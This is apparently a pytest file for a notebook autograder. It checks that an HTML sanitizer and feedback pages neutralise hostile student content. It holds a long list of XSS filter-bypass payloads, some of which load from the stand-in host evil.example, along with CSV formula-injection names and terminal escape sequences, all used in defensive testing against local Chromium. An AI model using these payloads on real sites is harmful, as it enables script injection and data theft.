"""What a student writes and shows reaches people as text, tables and pictures: nothing of it runs or loads anything.

The browser tests grade a submission full of scripts with the real command and open the real pages in Chromium.
"""

import base64
import contextlib
import csv
import dataclasses
import http.server
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbgrader.api import Gradebook
from traitlets.config import Config

from autograder import feedback, report
from autograder.grading import configure, sanitize
from autograder.grading.export import CsvExport
from autograder.results import AssignmentResult, ExerciseResult, PropertyResult, State

from ..autograder.conftest import write_tiny_course

CHROMIUM = next(filter(None, map(shutil.which, ["chromium", "chromium-browser", "google-chrome"])), None)
needs_browser = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")

RUN = "document.title='PWNED'"
"""What the scripts planted here do."""

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()

ATTACKS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    "<script src=https://evil.example/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f'<img src=x:x onerror\n=\n"{RUN}">',
    f'<img src=x oNeRrOr="{RUN}" ',
    f'<img/src=x/onerror="{RUN}">',
    f'<img """><script>{RUN}</script>">',
    f'<img alt="`<script>{RUN}</script>`" src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<svg/onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#100;ocument.title='PWNED'</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x\">",
    f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" \x01javascript:{RUN}">x</a>',
    f'<a href="java\nscript:{RUN}">x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    f'<a href="&#0000106avascript:{RUN}">x</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href="javascript://https://x%0a{RUN}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    '<a href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">x</a>',
    '<a href="//evil.example">x</a><a href="/formgrader/api">x</a>',
    '<a href="https://evil.example" target=_blank ping=https://evil.example rel=opener>x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "<frameset><frame src=https://evil.example></frameset>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "<embed src=https://evil.example/x.swf><applet code=x></applet>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example) }</style>x",
    "<style>x",
    '<div style="background: url(https://evil.example)">x</div>',
    "<div style=\"color: red; background-image: url('https://evil.example'); width: 1em\">x</div>",
    '<div style="background-color: u\\72l(https://evil.example)">x</div>',
    '<div style="color:red&#59background:url&lpar;https://evil.example)">x</div>',
    '<div style="color:red&#59;position:fixed&#59;inset:0">x</div>',
    '<div style="position: fixed; inset: 0; z-index: 9999; margin: -99em; margin: calc(0em - 99em)">x</div>',
    '<div style="width: expression(alert(1)); -moz-binding: url(x); behavior: url(x)">x</div>',
    '<img src=https://evil.example/x.png srcset="https://evil.example/y.png 2x">',
    "<picture><source srcset=https://evil.example><img src=https://evil.example></picture>",
    "<video poster=https://evil.example src=https://evil.example autoplay><track src=https://evil.example></video>",
    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "<table background=https://evil.example><tr><td background=https://evil.example>x</td></tr></table>",
    "<input type=image src=https://evil.example><body background=https://evil.example>",
    f'<body onload="{RUN}" onpageshow="{RUN}">',
    f'<input onfocus="{RUN}" autofocus><select onfocus="{RUN}" autofocus></select>',
    f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}" id=x>x</button></form>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<div onpointerover="{RUN}" tabindex=0 autofocus contenteditable>x</div>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<noscript><style></noscript><img src=x onerror="{RUN}"></style>',
    f'<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    f'<title><img title="</title><img src=x onerror={RUN}>"></title>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><plaintext><img src=x onerror="{RUN}">',
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<!-- --!><img src=x onerror="{RUN}"> -->',
    f'<![CDATA[><img src=x onerror="{RUN}">]]><?xml ?><!ENTITY x><?php <script>{RUN}</script>?>',
    f'<p title="x" title=\'"><img src=x onerror={RUN}>\'>x',
    f'<div id=submission_id name=x class="score btn comment" data-toggle=tooltip title="<img src=x onerror={RUN}>">',
    f'<img src="data:image/svg+xml,<svg onload={RUN}>"><img src="data:text/html;base64,AAAA">',
    f'<img src="data:image/png;base64,AAAA&quot; onerror=&quot;{RUN}">',
    f"{{{{constructor.constructor('{RUN}')()}}}}<x-y onclick=\"{RUN}\" is=x>",
]
"""HTML that runs something, loads something, or lies over the page, in a browser as it comes."""

TAGS = set(
    "a abbr b blockquote br caption center code col colgroup dd del details div dl dt em figcaption figure h1 h2 h3 h4"
    " h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead"
    " tr tt u ul var".split()
)
PLAIN = {"alt", "border", "class", "colspan", "height", "rel", "rowspan", "start", "style", "title", "width"}
STYLES = r"(background-color|border[a-z-]*|color|[a-z]+-(align|height|weight)|margin|padding|width)"


def assert_harmless(page):
    """Fail where a parser finds a tag, an attribute or a value in `page` that is not known to be harmless."""
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        assert element.name in TAGS
        for name, value in element.attrs.items():
            if name == "href":
                assert re.match("https?://|mailto:|#", value), value
            elif name == "src":
                assert re.fullmatch(r"data:image/[a-z+]+;base64,[A-Za-z0-9+/=]*", value), value
            elif name == "style":
                for part in filter(None, map(str.strip, value.split(";"))):
                    assert re.fullmatch(rf"{STYLES}:[\s\w.,#%-]*", part) and not re.search(r"-\d", part), part
            else:
                assert name in PLAIN, name
        assert not {"score", "btn", "comment"} & set(element.get("class", []))
    assert "\x00" not in page


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_is_left_of(attack):
    cleaned = sanitize.clean_html(attack)
    assert_harmless(cleaned)
    assert sanitize.clean_html(cleaned) == cleaned


TABLE = """<div>
<style scoped>.dataframe tbody tr th { vertical-align: top }</style>
<table border="1" class="dataframe">
<thead><tr style="text-align: right;"><th></th><th colspan="2">x &lt; y</th></tr></thead>
<tbody><tr><th rowspan="2">0</th><td>1.5</td></tr></tbody>
</table>
</div>"""


@pytest.mark.parametrize(
    "honest",
    [
        TABLE.replace("<style scoped>.dataframe tbody tr th { vertical-align: top }</style>", ""),
        f'<img alt="a plot" src="data:image/png;base64,{PNG}" width="300">',
        "<ul>\n<li>one</li>\n<li><b>two</b> &amp; <code>x &lt; y</code></li>\n</ul>",
        '<div class="highlight"><pre><span></span><span class="k">def</span> <span class="nf">f</span>\n</pre></div>',
        '<a href="https://numpy.org/doc/?a=1&amp;b=2" rel="noopener noreferrer">NumPy</a>',
        "<details><summary>Hint</summary>$x &lt; y$</details>",
        '<p style="color: rgb(200, 0, 0); font-weight: bold;">red&nbsp;</p>',
    ],
)
def test_honest_html_stays_as_it_is(honest):
    assert sanitize.clean_html(honest) == honest


def test_the_style_sheet_of_a_pandas_table_is_not_left_as_text():
    assert "vertical-align" not in sanitize.clean_html(TABLE)


def test_the_verdicts_table_stays_as_it_is():
    prop = PropertyResult("p", "failed", 0.0, 1.0, "It < holds.", "m", calls=[("f([1])", "raised 'E'")], trace="  File")
    verdict = feedback.exercise_html(ExerciseResult("f", "n", "failed", 0.0, 1.0, "", [prop]), ["w"])
    before, after = (BeautifulSoup(page, "html.parser") for page in [verdict, sanitize.clean_html(verdict)])
    assert after.get_text(strip=True) == before.get_text(strip=True)
    styles = [[element.get("style", "").strip(";") for element in page.select("[style]")] for page in [before, after]]
    assert styles[0] == styles[1]


@pytest.mark.parametrize("deep", ["<div>", "<b>", "<table><tr><td>", "<b><p>"])
def test_html_by_the_megabyte_is_refused_quickly(deep):
    assert "more HTML than can be shown" in sanitize.clean_html(deep * 100_000)
    assert sanitize.clean_html(deep * 1000)


def markdown(source, attachments=None):
    """Markdown as a page shows it: by nbconvert's filter, in the configuration of a course."""
    config = Config()
    configure(config)
    from nbconvert.exporters import HTMLExporter

    environment = HTMLExporter(config=config).environment
    template = environment.from_string("{{ cell.source | markdown2html | strip_files_prefix }}")
    return template.render(cell={"source": source, "attachments": attachments or {}})


@pytest.mark.parametrize(
    "attack", [*ATTACKS, f"[x](javascript:{RUN})", f'![x](x"onerror="{RUN})', f"# <img onerror={RUN}>"]
)
def test_nothing_harmful_is_left_of_markdown_with(attack):
    for source in (attack, f"text {attack} text", f"- {attack}", f"$x {attack} x$", f"```html\n{attack}\n```"):
        assert_harmless(markdown(source))


def test_markdown_keeps_mathematics_code_tables_and_attachments():
    page = markdown(
        "# Why\n\n$a < b$ and \\begin{align} a &< b \\\\ c &= d \\end{align}\n\n```python\ndef f(): pass\n```\n\n"
        "| x | y |\n|---|--:|\n| 1 | 2 |\n\n![plot](attachment:plot.png)\n",
        {"plot.png": {"image/png": PNG}},
    )
    assert "$a &lt; b$" in page
    assert r"\begin{align} a &amp;&lt; b \\ c &amp;= d \end{align}" in page
    assert '<span class="k">def</span>' in page
    assert BeautifulSoup(page, "html.parser").select_one("td[style*='right']").string == "2"
    assert f'src="data:image/png;base64,{PNG}"' in page
    assert_harmless(page)


def test_markdown_that_cannot_be_rendered_is_shown_as_it_was_typed():
    """A missing attachment would otherwise stop the feedback of a class."""
    assert markdown("<b>![x](attachment:none)") == "<pre>&lt;b&gt;![x](attachment:none)</pre>"


def shown(**data):
    output = sanitize.output(("display_data", [(mime.replace("_", "/"), text) for mime, text in data.items()]))
    return output and dict(output.data)


def test_honest_plots_survive():
    import matplotlib.pyplot as plt

    plots = {kind: io.BytesIO() for kind in ("png", "svg")}
    figure = plt.figure()
    figure.gca().plot([1, 2])
    for kind, file in plots.items():
        figure.savefig(file, format=kind)
    plt.close(figure)
    png, svg = base64.encodebytes(plots["png"].getvalue()).decode(), plots["svg"].getvalue().decode()
    assert shown(image_png=png) == {"image/png": png}
    picture = BeautifulSoup(shown(**{"image/svg+xml": svg})["text/html"], "html.parser").img["src"]
    assert base64.b64decode(picture.removeprefix("data:image/svg+xml;base64,")).decode() == svg


def test_what_is_no_picture_and_what_is_unknown_is_dropped():
    planted = f'"><script>{RUN}</script>'
    assert shown(image_png=planted, image_jpeg=planted, application_javascript=RUN, application_pdf="x") is None
    assert shown(text_html=f"<script>{RUN}</script>", text_plain="<Chart>") == {"text/plain": "<Chart>"}


def test_control_and_direction_characters_do_not_reach_pages_or_terminals():
    text = "\x1b[31mred\x1b[0m tab\there\x1b]0;title\x07\x1b[2J\x1b[8m\x00\x9b\u202egnp.exe\u2066 50 %\r100 %\r\n"
    said = "\x1b[31mred\x1b[0m tab\there�]0;title��[2J\x1b[8m��" + "�gnp.exe� 50 %\n100 %\n"
    assert sanitize.output(("stream", "stdout", text)).text == said
    error = sanitize.output(("error", text, text, [text]))
    assert (error.ename, error.evalue, error.traceback) == (said, said, [said])
    assert shown(text_plain=text, text_latex=text) == {"text/plain": said, "text/latex": said}
    assert len(sanitize.output(("stream", "stdout", "x" * 10**7)).text) < 10**6


def test_the_class_report_shows_hostile_text_as_text():
    planted = f'<script>{RUN}</script><img src=x onerror={RUN}>\x1b[2J\u202e" onmouseover="{RUN}'
    prop = PropertyResult("p", "failed", 0.0, 1.0, planted, planted)
    exercise = ExerciseResult("f", "n", "failed", 0.0, 1.0, planted, [prop])
    results = [
        AssignmentResult("a", 0.0, 1.0, [exercise], planted, State.GRADED, "bubblewrap", [planted]),
        AssignmentResult("a", None, 1.0, [], f"{planted} too", State.NOT_YET, remarks=[planted]),
    ]
    page = report.class_html(planted, results)
    soup = BeautifulSoup(page, "html.parser")
    assert not soup.find_all(["script", "img"])
    assert not [name for element in soup.find_all(True) for name in element.attrs if name.startswith("on")]
    assert not re.search("[\x00-\x08\x1b\u202e]", page.split("<h2>", 1)[1])


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
def test_an_exported_name_is_neither_a_formula_nor_two_cells(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)  # nbgrader calls alembic
    names = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=x", "Curie, Marie", 'the "great"', "Zoë"]
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("first")
        for number, name in enumerate(names):
            gradebook.add_student(name, first_name=name, last_name=name, email=f"{number}@example.org")
            gradebook.add_submission("first", name)
        gradebook.add_student("nobody")
        CsvExport(to=str(tmp_path / "grades.csv")).export(gradebook)
    with open(tmp_path / "grades.csv", newline="") as file:
        rows = {row["student_id"]: row for row in csv.DictReader(file)}
    assert set(rows) == {*(f"'{name}" for name in names[:4]), "'�x", "'�=x", *names[6:], "nobody"}
    for student, row in rows.items():
        name = "" if student == "nobody" else student
        assert (row["last_name"], row["first_name"], row["score"]) == (name, name, "0.0")
        assert None not in row and None not in row.values()


def planted(port):
    """HTML that runs scripts at once, in several ways, and loads from `port` on this machine."""
    run = "document.title='PWNED';document.body.appendChild(Object.assign(document.createElement('i'),{id:'pwned'}))"
    here = f"http://127.0.0.1:{port}"
    return f"""
<script>{run}</script>
<img src="x" onerror="{run}">
<svg onload="{run}"><script>{run}</script></svg>
<iframe srcdoc="<script>parent.{run.replace(";", ";parent.")}</script>"></iframe>
<details open ontoggle="{run}"><summary>x</summary></details>
<input autofocus onfocus="{run}">
<img src="{here}/img"> <img srcset="{here}/srcset 1x"> <video poster="{here}/poster"></video>
<div style="background: url({here}/css)">x</div>
<style>@import "{here}/import"; body {{ background: url({here}/body) }}</style>
<link rel="stylesheet" href="{here}/link"> <object data="{here}/object"></object> <embed src="{here}/embed">
<iframe src="{here}/iframe"></iframe> <script src="{here}/script"></script>
<table background="{here}/table"><tr><td>x</td></tr></table>
"""


ANSWER = """
def double(x):
    return 2.0 * np.asarray(x, float)

import IPython.display as show
planted = {planted!r}
svg = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>" + {svg!r} + "<circle r='9'/></svg>"
print(planted + "\\x1b[31mcoloured\\x1b[0m \\x1b]0;PWNED\\x07 \\u202eturned")
display(show.HTML(planted + {table!r}), show.Markdown("*rich* " + planted), show.Latex(planted))
display(show.HTML("<p id=last>isolated</p>" + planted, metadata={{"isolated": True}}), show.Javascript({run!r}))
display({{"image/svg+xml": svg.replace({svg!r}, "")}}, raw=True)
for data in [{{"image/svg+xml": svg}}, {{"image/png": '">' + planted}}, {{"text/plain": planted}}]:
    display(data, raw=True)
raise ValueError(planted)
"""


@dataclasses.dataclass
class Listener:
    """A web server on loopback that remembers what it was asked for."""

    requests: list
    port: int


@contextlib.contextmanager
def listening():
    requests = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_error(404)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Listener(requests, server.server_port)
        server.shutdown()


@pytest.fixture(scope="module")
def listener():
    with listening() as started:
        yield started


@pytest.fixture
def browse(tmp_path):
    """Open a page in Chromium, with `more` options, and return what it has become: its text as HTML, after five
    seconds of its time."""

    def browse(address, *more):
        options = [
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
            "--disable-background-networking", "--disable-component-update", "--virtual-time-budget=5000",
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", f"--user-data-dir={tmp_path / 'chromium'}",
        ]  # fmt: skip
        done = subprocess.run(
            [CHROMIUM, *options, *more, "--dump-dom", address], capture_output=True, text=True, timeout=120, check=True
        )
        return BeautifulSoup(done.stdout, "html.parser")

    return browse


@pytest.fixture(scope="module")
def hostile(autograder, listener, tmp_path_factory):
    """A course folder with a graded submission that plants scripts wherever a student can."""
    root = write_tiny_course(tmp_path_factory.mktemp("see") / "course")
    assert autograder("build", cwd=root).returncode == 0
    notebook = nbformat.read(root / "assignments/first/doubling.ipynb", as_version=4)
    cells = {cell.metadata.nbgrader.grade_id: cell for cell in notebook.cells if "nbgrader" in cell.metadata}
    plant = planted(listener.port)
    cells["double"].source = ANSWER.format(planted=plant, svg=plant, table=TABLE, run=RUN)
    answer = f"An answer with **bold** and $x < y$\n{plant}\n![x](http://127.0.0.1:{listener.port}/markdown)"
    cells["why"].source = answer
    notebook.cells.append(nbformat.v4.new_raw_cell(plant))
    (root / "submitted/mallory/first").mkdir(parents=True)
    nbformat.write(notebook, root / "submitted/mallory/first/doubling.ipynb")
    done = autograder("grade", "first", "--json", cwd=root)
    assert (done.returncode, json.loads(done.stdout)[0]["score"]) == (0, 3.0), done.stdout + done.stderr
    return root


def assert_calm(page, listener):
    """Fail where a planted script has run in a page, or what it shows of honest content is not all there."""
    assert "PWNED" not in page.title.string
    assert not page.select("#pwned")
    assert listener.requests == []
    shown = page.select_one("#notebook-container")
    assert not shown.select("script, style, iframe, object, embed, link, form, svg, [onload], [onerror], #last")
    assert "3 of 3 points" in shown.get_text(" ", strip=True)
    assert shown.select_one("table.dataframe th[rowspan='2']")
    assert shown.select_one("img[src^='data:image/svg+xml;base64,']")
    assert shown.select_one(".ansi-red-fg").string == "coloured"
    assert shown.select_one("strong").string == "bold" and "$x < y$" in shown.get_text()
    assert not re.search("[\x1b\u202e]", str(page))


@needs_browser
def test_scripts_do_run_in_a_page_that_nobody_has_cleaned(browse, tmp_path):
    """So that the tests below can fail."""
    with listening() as listener:
        (tmp_path / "control.html").write_text(f"<title>x</title><body>{planted(listener.port)}</body>")
        page = browse((tmp_path / "control.html").as_uri())
    assert page.title.string == "PWNED"
    assert page.select("#pwned")
    assert {
        "/img",
        "/srcset",
        "/poster",
        "/import",
        "/body",
        "/link",
        "/object",
        "/iframe",
        "/script",
        "/table",
    } <= set(listener.requests)


@needs_browser
def test_no_script_runs_in_a_feedback_page(hostile, browse, listener, autograder):
    done = autograder("generate_feedback", "first", cwd=hostile, command="nbgrader")
    assert done.returncode == 0, done.stderr
    assert_calm(browse((hostile / "feedback/mallory/first/doubling.html").as_uri()), listener)


@needs_browser
def test_none_of_the_attacks_runs_in_a_browser(browse, tmp_path):
    page = tmp_path / "page.html"
    stay = [attack for attack in ATTACKS if "evil.example" not in attack]  # the others lead to a page of their own
    for attacks, title in [(stay, "PWNED"), (map(sanitize.clean_html, ATTACKS), "x")]:
        page.write_text("<title>x</title>" + "\n".join(attacks), encoding="utf-8")
        assert browse(page.as_uri()).title.string == title


@pytest.fixture
def formgrader(hostile, tmp_path):
    """A Jupyter server with formgrader in the hostile course: a function that returns the address of a page."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    folders = {
        "HOME": "",
        "IPYTHONDIR": "i",
        "JUPYTER_CONFIG_DIR": "c",
        "JUPYTER_DATA_DIR": "d",
        "JUPYTER_RUNTIME_DIR": "r",
    }
    environment = os.environ | {name: str(tmp_path / folder) for name, folder in folders.items()}
    command = [Path(sys.executable).with_name("jupyter-server"), "--no-browser", "--allow-root"]
    settings = ["--ServerApp.token=open", f"--ServerApp.port={port}", "--ServerApp.port_retries=0"]
    with open(tmp_path / "log", "w") as log:
        server = subprocess.Popen([*command, *settings], cwd=hostile, env=environment, stdout=log, stderr=log)
    try:
        yield lambda page: f"http://127.0.0.1:{port}/formgrader/{page}?token=open"
    finally:
        server.terminate()
        server.wait(30)


@needs_browser
def test_no_script_runs_in_formgrader(formgrader, browse, listener):
    (submission,) = json.loads(_fetch(formgrader("api/submitted_notebooks/first/doubling")))
    page = browse(formgrader(f"submissions/{submission['id']}/"))
    assert page.select_one("input.score")
    assert_calm(page, listener)


def _fetch(address, patience=60):
    """Return what is at `address`, as soon as somebody serves it."""
    until = time.monotonic() + patience
    while True:
        try:
            with urllib.request.urlopen(address, timeout=30) as answer:
                return answer.read()
        except OSError:
            if time.monotonic() > until:
                raise
            time.sleep(0.3)
